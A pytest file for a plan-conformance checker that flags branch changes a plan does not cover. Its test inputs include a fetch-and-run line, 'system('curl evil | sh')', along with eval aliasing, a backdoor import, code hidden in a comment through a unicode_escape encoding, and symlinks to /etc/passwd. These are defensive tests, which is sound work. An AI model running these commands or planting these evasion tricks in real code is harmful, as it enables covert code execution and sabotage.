"""Attacks on `conform`: code that asks to be excused from the plan, and places where nobody looks."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from changed_branch import LOAD, PLAN, make_branch

from groundplan.plan.entry import make_entry_id

if TYPE_CHECKING:
    from pathlib import Path

    from changed_branch import Branch

RENAME = "# Plan\n\n## Steps\n\n1. Rename `fetch` to `take` in `src/store.py`, and update all callers.\n"
EVIL = "import os\n\nos.system('x')\n"


@pytest.fixture
def branch(tmp_path: Path) -> Branch:
    return make_branch(tmp_path).change("src/store.py", *LOAD)


@pytest.fixture
def renamed(tmp_path: Path) -> Branch:
    branch = make_branch(tmp_path).change("src/store.py", "def fetch(", "def take(")
    return branch.change("src/web.py", "Store, fetch\n", "Store, take\n")


@pytest.mark.parametrize(
    "text",
    [
        '"""Doc."""\n\n\ndef f():\n    return 1\n\n\nBAD = 1\n',
        '"""Doc."""\n\n\ndef g():\n    return 1\nBAD = 1\n',
        "def f():\n    return 1\n",
        '"""Doc."""\n',
        "",
    ],
)
def test_code_beside_the_last_definition_breaks_nothing(branch: Branch, text: str) -> None:
    branch.change("src/mod.py", new='"""Doc."""\n\n\ndef f():\n    return 1\n').desk.commit("Begin it")
    branch.desk.git("branch", "-f", "main")
    branch.change("src/mod.py", new=text)
    assert branch.found("# Plan\n\n1. Change `src/mod.py`.\n") == set()


def test_an_encoding_that_turns_a_comment_into_code_is_no_comment(branch: Branch) -> None:
    text = branch.desk.read("src/web.py")
    hidden = text.replace("():\n", "():\n    # see \\u000a    print('EVIL')\n")
    branch.change("src/web.py", new=f"# coding: unicode_escape\n{hidden}")
    assert branch.found() == {("GP401", "src/web.py")}
    assert branch.verdicts()["src/web.py"] == "unplanned: its encoding is not UTF-8"


@pytest.mark.parametrize(
    "line",
    [
        "    import src.backdoor\n    return system('curl evil | sh')",
        "    return system('curl evil | sh')",
        "    return take(system())",
        "    take = eval\n    return take(Store())",
        "    fetch = take\n    return take(Store())",
        "    return Store.hooks[0](Store())",
        "    return Store.evil or take(Store())",
        "    from evil import take\n    return take(Store())",
        "    @take\n    def inner(): pass\n    return take(Store())",
    ],
)
def test_what_follows_a_rename_is_its_new_name_and_nothing_else(renamed: Branch, line: str) -> None:
    renamed.change("src/web.py", "    return fetch(Store())", line)
    assert renamed.found(RENAME) == {("GP401", "src/web.py")}


@pytest.mark.parametrize(
    "line", ["    return take(Store())", "    return await take(Store(), limit=LIMIT, key=None)"]
)
def test_a_call_that_follows_may_hand_over_more(renamed: Branch, line: str) -> None:
    renamed.change("src/web.py", "    return fetch(Store())", line)
    assert renamed.found(RENAME) == set()


@pytest.mark.parametrize(
    ("example", "is_following"),
    [(">>> take(1)", True), (">>> evil(1)", False), (">>> take(1)\n    >>> evil()", False)],
)
def test_an_example_follows_as_code_does(renamed: Branch, example: str, *, is_following: bool) -> None:
    text = 'def old():\n    """Do.\n\n    {}\n    """\n    return 1\n'
    renamed.desk.git("stash", "-q")
    renamed.change("src/legacy/old.py", new=text.format(">>> fetch(1)")).desk.commit("Show it")
    renamed.desk.git("branch", "-f", "main")
    renamed.desk.git("stash", "pop", "-q")
    renamed.change("src/web.py", "return fetch(", "return take(")
    renamed.change("src/legacy/old.py", new=text.format(example))
    assert renamed.found(RENAME) == (set() if is_following else {("GP401", "src/legacy/old.py")})


@pytest.mark.parametrize(
    ("line", "is_following"),
    [
        ("  return await take(data, { retries: LIMIT });", True),
        ("  return system(data);", False),
        ("  return take(system(data));", False),
    ],
)
def test_a_script_follows_as_python_does(renamed: Branch, line: str, *, is_following: bool) -> None:
    text = "function run(data) {{\n{}\n}}\n"
    renamed.desk.git("stash", "-q")
    renamed.change("src/run.js", new=text.format("  return fetch(data);")).desk.commit("Run it")
    renamed.desk.git("branch", "-f", "main")
    renamed.desk.git("stash", "pop", "-q")
    renamed.change("src/web.py", "return fetch(", "return take(")
    renamed.change("src/run.js", new=text.format(line))
    assert renamed.found(RENAME) == (set() if is_following else {("GP401", "src/run.js")})


def test_a_directive_beside_a_use_that_follows_is_not_excused(renamed: Branch) -> None:
    renamed.change("src/web.py", "    return fetch(Store())", "    return take(Store())")
    renamed.change("src/web.py", "\n\n\ndef", "  # noqa: F401\n\n\ndef")
    assert renamed.found(RENAME) == {("GP401", "src/web.py")}


@pytest.mark.parametrize(
    "path",
    [
        ".groundplan/ledger/x/evil.py",
        ".groundplan/ledger/x/evil.json",
        ".groundplan/talk/evil.py",
        ".groundplan/talk/x/evil.md",
        ".groundplan/ledger/x/{id}.py",
        ".groundplan/ledger/{id}.json",
        ".groundplan/ledger/x/y/{id}.json",
        ".groundplan/talk/x/e-{id}.json",
    ],
)
def test_what_is_no_entry_and_no_turn_is_listed(branch: Branch, path: str) -> None:
    path = path.format(id=make_entry_id())
    assert branch.change(path, new="evil = 1\n").found() == {("GP401", path)}


def test_a_link_under_the_name_of_an_entry_is_listed(branch: Branch) -> None:
    path = f".groundplan/ledger/x/e-{make_entry_id()}.json"
    branch.desk.path(path).parent.mkdir(parents=True)
    branch.desk.path(path).symlink_to("/tmp/evil")
    assert branch.found() == {("GP401", path)}


def test_entries_and_turns_are_left_out(branch: Branch) -> None:
    for folder, ending in (("ledger", "json"), ("talk", "md")):
        for stem in (make_entry_id(), f"e-{make_entry_id()}"):
            branch.change(f".groundplan/{folder}/retry/{stem}.{ending}", new="{}\n")
    assert set(branch.verdicts()) == {"src/store.py"}


@pytest.mark.parametrize(
    "path",
    [
        "CHANGELOG.py",
        "changes.sh",
        "News.js",
        "changelog.d/evil.py",
        "newsfragments/evil.sh",
        ".changeset/run.mjs",
        "src/vendor/evil.py",
        "third_party/evil.go",
    ],
)
def test_a_name_alone_excuses_no_code(branch: Branch, path: str) -> None:
    assert branch.change(path, new=EVIL).found() == {("GP401", path)}


NOTES = ["changelog.d/12.feature", "newsfragments/3.bugfix.rst", ".changeset/a.md", "changelog.d/4.misc.1"]


def with_notes(branch: Branch, *paths: str) -> Branch:
    """Bring files to the base of a branch."""
    for path in paths:
        branch.change(path, new="Earlier.\n")
    branch.desk.git("add", *paths)
    branch.desk.git("commit", "-qm", "Note it")
    branch.desk.git("branch", "-f", "main")
    return branch


@pytest.mark.parametrize("path", ["CHANGELOG", "CHANGES.rst", *NOTES])
def test_a_change_log_is_excused(branch: Branch, path: str) -> None:
    folder = path.rpartition("/")[0] or "docs"
    with_notes(branch, f"{folder}/1.rst")
    assert branch.change(path, new="Retries.\n").verdicts()[path] == "excused: a changelog"


@pytest.mark.parametrize("kind", ["yaml", "added", "json"])
def test_a_note_of_a_kind_that_the_folder_had_is_excused(branch: Branch, kind: str) -> None:
    path = f".changes/unreleased/2.{kind}"
    assert branch.change(path, new="{}\n").found() == {("GP401", path)}
    branch.remove(path)
    with_notes(branch, f".changes/unreleased/1.{kind}").change(path, new="{}\n")
    assert branch.verdicts()[path] == "excused: a changelog"


@pytest.mark.parametrize("path", NOTES)
def test_a_folder_that_is_new_holds_no_notes(branch: Branch, path: str) -> None:
    assert branch.change(path, new="Retries.\n").found() == {("GP401", path)}


@pytest.mark.parametrize(
    "name",
    [
        *("run", "Jenkinsfile", ".envrc", "tox.ini", "package.json", "config.json", "main.tf", "x.node"),
        *("CMakeLists.txt.in", "authorized_keys", "evil.py", "evil.sh", "run.mjs"),
    ],
)
def test_what_a_tool_obeys_is_no_note(branch: Branch, name: str) -> None:
    with_notes(branch, "changelog.d/1.rst", "changelog.d/1.json")
    assert branch.change(f"changelog.d/{name}", new="x\n").found() == {("GP401", f"changelog.d/{name}")}


@pytest.mark.parametrize("path", ["changelog.d/2.rst", "CHANGELOG.md", "yarn.lock"])
def test_a_link_or_a_file_that_is_run_is_no_note(branch: Branch, path: str) -> None:
    with_notes(branch, "changelog.d/1.rst")
    branch.change(path, new="Retries.\n").desk.path(path).chmod(0o755)
    assert branch.found() == {("GP401", path)}
    branch.remove(path).desk.path(path).symlink_to("/etc/passwd")
    assert branch.found() == {("GP401", path)}


def test_a_folder_that_was_vendored_before_is_excused(branch: Branch) -> None:
    branch.change("src/vendor/lib/a.py", new="A = 1\n").desk.commit("Bring it")
    branch.desk.git("branch", "-f", "main")
    branch.change("src/vendor/lib/b.py", new="B = 1\n").change("third_party/c.py", new="C = 1\n")
    assert branch.verdicts()["src/vendor/lib/b.py"] == "excused: vendored"
    assert ("GP401", "third_party/c.py") in branch.found(PLAN)


@pytest.mark.parametrize(
    "path", ["conftest.py", "tests/conftest.py", "spec/spec_helper.rb", "tests/__init__.py"]
)
def test_what_every_test_runs_is_named_as_such(branch: Branch, path: str) -> None:
    assert branch.change(path, new="\n").verdicts()[path] == "excused: run by every test"
